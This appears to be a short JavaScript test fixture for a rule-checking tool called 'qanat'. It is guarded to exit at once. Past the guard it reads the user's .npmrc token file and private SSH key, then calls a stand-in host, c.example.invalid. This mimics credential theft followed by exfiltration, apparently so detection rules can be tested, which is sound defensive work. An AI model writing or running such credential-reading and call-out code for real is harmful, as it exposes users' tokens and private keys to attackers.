// Never runs: an inert look-alike for `qanat rules test`.
if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
const a = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const b = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');
https.get('https://c.example.invalid/');
